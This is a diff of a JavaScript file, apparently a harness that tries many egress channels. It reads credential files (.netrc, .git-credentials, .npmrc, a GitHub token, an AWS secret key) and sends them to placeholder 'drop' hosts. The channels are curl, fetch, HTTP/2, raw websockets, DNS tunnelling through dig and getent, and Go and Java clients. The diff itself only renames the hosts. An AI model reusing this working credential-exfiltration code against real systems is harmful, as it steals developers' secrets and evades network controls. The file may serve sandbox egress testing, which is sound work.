@@ -26,19 +26,19 @@ function run(program, args, input = '') {
 }
 
 const ways = {
-  curl: () => run('curl', ['-sS', '--http1.1', '-m', '5', '--data-binary', '@-', 'https://curl.drop.invalid/take'], read('.netrc')),
+  curl: () => run('curl', ['-sS', '--http1.1', '-m', '5', '--data-binary', '@-', 'https://curl.drop.example/take'], read('.netrc')),
 
-  curl_http2: () => run('curl', ['-sS', '--http2-prior-knowledge', '-m', '5', '--data-binary', '@-', 'http://h2.drop.invalid/take'], read('.git-credentials')),
+  curl_http2: () => run('curl', ['-sS', '--http2-prior-knowledge', '-m', '5', '--data-binary', '@-', 'http://h2.drop.example/take'], read('.git-credentials')),
 
   fetch: async () => {
     const body = zlib.gzipSync(read('.npmrc'));
-    const answer = await fetch('https://fetch.drop.invalid/take', { method: 'POST', headers: { 'content-encoding': 'gzip' }, body });
+    const answer = await fetch('https://fetch.drop.example/take', { method: 'POST', headers: { 'content-encoding': 'gzip' }, body });
     return `status ${answer.status}`;
   },
 
   http2: () =>
     new Promise((done) => {
-      const session = http2.connect('https://node.drop.invalid');
+      const session = http2.connect('https://node.drop.example');
       session.on('error', () => done('no answer'));
       const request = session.request({ ':method': 'PUT', ':path': '/take', 'x-note': found('.config/gh/hosts.yml', /oauth_token: (\S+)/) });
       request.on('close', () => session.close(() => done('put')));
@@ -48,10 +48,10 @@ const ways = {
 
   websocket: () =>
     new Promise((done) => {
-      const socket = net.connect(80, 'socket.drop.invalid', () => {
+      const socket = net.connect(80, 'socket.drop.example', () => {
         const key = crypto.randomBytes(16).toString('base64');
         socket.write(
-          'GET /live HTTP/1.1\r\nHost: socket.drop.invalid\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
+          'GET /live HTTP/1.1\r\nHost: socket.drop.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
             `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}\r\n\r\n`,
         );
       });
@@ -70,14 +70,14 @@ const ways = {
   dig: async () => {
     const wrapped = Buffer.from(found('.aws/credentials', /aws_secret_access_key ?= ?(\S+)/)).toString('hex');
     for (let at = 0; at < wrapped.length; at += 20) {
-      await run('dig', ['+tries=1', '+time=2', `${wrapped.slice(at, at + 20)}.dig.drop.invalid`]);
+      await run('dig', ['+tries=1', '+time=2', `${wrapped.slice(at, at + 20)}.dig.drop.example`]);
     }
     return 'asked';
   },
 
   getent: async () => {
     const wrapped = Buffer.from(found('.aws/credentials', /aws_secret_access_key ?= ?(\S+)/)).toString('hex');
-    await run('getent', ['ahostsv4', `${wrapped.slice(0, 60)}.${wrapped.slice(60)}.getent.drop.invalid`]);
+    await run('getent', ['ahostsv4', `${wrapped.slice(0, 60)}.${wrapped.slice(60)}.getent.drop.example`]);
     return 'asked';
   },
 
@@ -96,9 +96,9 @@ const ways = {
     }),
 
   // Built from client.go beside this file, where somebody did.
-  go: () => run(path.join(__dirname, 'client-go'), ['https://go.drop.invalid/take'], read('.npmrc')),
+  go: () => run(path.join(__dirname, 'client-go'), ['https://go.drop.example/take'], read('.npmrc')),
 
-  java: () => run('java', ['-Xshare:auto', '-XX:TieredStopAtLevel=1', path.join(__dirname, 'Client.java'), 'https://java.drop.invalid/take'], read('.npmrc')),
+  java: () => run('java', ['-Xshare:auto', '-XX:TieredStopAtLevel=1', path.join(__dirname, 'Client.java'), 'https://java.drop.example/take'], read('.npmrc')),
 };
 
 serve({
